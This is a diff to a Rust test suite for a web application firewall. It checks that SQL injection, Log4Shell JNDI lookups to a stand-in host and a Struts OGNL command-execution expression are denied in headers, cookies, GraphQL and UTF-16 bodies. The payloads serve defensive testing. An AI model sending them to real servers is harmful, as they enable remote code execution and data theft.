@@ -129,16 +129,20 @@ fn every_header_is_inspected_but_the_skipped_ones() {
         assert_eq!(o.top.unwrap().field, format!("header.{name}"));
         assert!(o.detail.contains("headers"), "{}", o.detail);
     }
-    // Skipped by default: credentials and structural headers (checked elsewhere).
-    for name in [
-        "authorization",
-        "proxy-authorization",
-        "accept-language",
-        "accept",
-    ] {
+    // Skipped by default: credentials and framing (checked elsewhere).
+    for name in ["authorization", "proxy-authorization", "transfer-encoding"] {
         assert_eq!(
             get(&c, "/", &[(name, "' or 1=1--")]).verdict,
             Verdict::Allow,
+            "{name}"
+        );
+    }
+    // Content negotiation, the body's type and the trace context are read (and logged) by
+    // servers: inspected.
+    for name in ["accept-language", "accept", "content-type", "traceparent"] {
+        assert_eq!(
+            get(&c, "/", &[(name, "' or 1=1--")]).verdict,
+            Verdict::Deny,
             "{name}"
         );
     }
@@ -190,6 +194,27 @@ fn honest_headers_are_not_findings() {
         ("upgrade-insecure-requests", "1"),
         ("origin", "https://shop.example.com"),
         ("x-client-version", "ios/17.2 (build 4711; iPhone14,2)"),
+        ("content-type", "multipart/form-data; boundary=----WebKitFormBoundary7MA4YWxkTrZu0gW"),
+        ("content-type", "application/json; charset=utf-8"),
+        ("content-type", "application/x-www-form-urlencoded"),
+        ("content-type", "multipart/form-data; boundary=------------------------d74496d66958873e"),
+        ("content-type", "multipart/form-data; boundary=Boundary_1_1234567_1700000000000"),
+        ("content-type", "text/plain;charset=UTF-8"),
+        ("content-type", "application/vnd.api+json"),
+        ("content-type", "application/grpc-web+proto"),
+        ("content-type", "text/xml; charset=\"ISO-8859-1\""),
+        ("content-encoding", "gzip"),
+        ("accept", "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,image/apng,*/*;q=0.8,application/signed-exchange;v=b3;q=0.7"),
+        ("accept", "application/json, text/plain, */*"),
+        ("accept", "*/*"),
+        ("accept-encoding", "gzip, deflate, br, zstd"),
+        ("accept-language", "en-US,en;q=0.9,de;q=0.8"),
+        ("accept-language", "zh-Hans-CN,zh-CN;q=0.9,*;q=0.5"),
+        ("accept-charset", "utf-8, iso-8859-1;q=0.5"),
+        ("traceparent", "00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01"),
+        ("tracestate", "congo=ucfJifl5GOE,rojo=00f067aa0ba902b7"),
+        ("tracestate", "dd=s:1;o:rum;t.dm:-0,sentry=abc@def=1"),
+        ("cookie", "_ga=GA1.1.1987654321.1700000000; _gid=GA1.1.2.3; __Host-session=Zm9vYmFy; __Secure-id=1; JSESSIONID=0A1B2C3D4E5F60718293A4B5C6D7E8F9; PHPSESSID=abc123; csrftoken=xyz; consent"),
     ];
     for (name, value) in browser {
         let o = get(&c, "/", &[(name, value)]);
@@ -798,4 +823,59 @@ fn graphql_documents_are_inspected() {
     assert_eq!((o.verdict, o.score), (Verdict::Allow, 0));
     let bad = r#"{"query":"{ user(name: \"unterminated) { id } }"}"#;
     assert_eq!(gql(&c, "/graphql", bad).reason, "malformed_graphql");
+}
+
+#[test]
+fn graphql_body_with_invalid_utf8_is_refused() {
+    // H1: one invalid byte used to turn the document into "" and let the SQLi through.
+    let c = compiled("{}");
+    let mut body = br#"{ user(id: "1' UNION SELECT password FROM users--") { name } } # "#.to_vec();
+    body.push(0xff);
+    let o = post(&c, "/graphql", "application/graphql", &body);
+    assert_eq!(
+        (o.verdict, o.status, o.reason.as_str()),
+        (Verdict::Deny, 400, "malformed_graphql")
+    );
+}
+
+#[test]
+fn attacks_in_formerly_skipped_headers_and_cookie_names_are_found() {
+    // H2: the same payload is denied in X-Foo; it must be in these too.
+    let c = compiled("{}");
+    let jndi = "${jndi:ldap://evil/a}";
+    let ognl = "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess?(#_memberAccess=#dm):((#container=#context['com.opensymphony.xwork2.ActionContext.container']))).(#cmd='id').(#p=new java.lang.ProcessBuilder(#cmd)).(#p.start())}.multipart/form-data";
+    assert_eq!(get(&c, "/", &[("x-foo", jndi)]).verdict, Verdict::Deny);
+    let cases = [
+        ("content-type", ognl),
+        ("content-type", jndi),
+        ("accept-language", jndi),
+        ("accept-charset", jndi),
+        ("traceparent", jndi),
+        ("tracestate", jndi),
+        ("cookie", "${jndi:ldap://x/a}=1"),
+        ("cookie", "theme=dark; ${jndi:ldap://x/a}"),
+    ];
+    for (name, value) in cases {
+        let o = get(&c, "/", &[(name, value)]);
+        assert_eq!(o.verdict, Verdict::Deny, "{name}: {value}");
+        let field = o.top.map(|h| h.field).unwrap_or_default();
+        assert!(!field.contains("jndi"), "payload in field name: {field}");
+    }
+}
+
+#[test]
+fn utf16_text_without_bom_or_charset_is_decoded() {
+    // L2: UTF-16LE without a BOM is NULs and ASCII to every detector unless it is sniffed.
+    let c = compiled("{}");
+    let text = "id=1' UNION SELECT password FROM users--";
+    let le: Vec<u8> = text.encode_utf16().flat_map(u16::to_le_bytes).collect();
+    let be: Vec<u8> = text.encode_utf16().flat_map(u16::to_be_bytes).collect();
+    let le32: Vec<u8> = text
+        .chars()
+        .flat_map(|ch| (ch as u32).to_le_bytes())
+        .collect();
+    for body in [le, be, le32] {
+        let o = post(&c, "/submit", "text/plain", &body);
+        assert_eq!(o.verdict, Verdict::Deny, "{body:?}");
+    }
 }
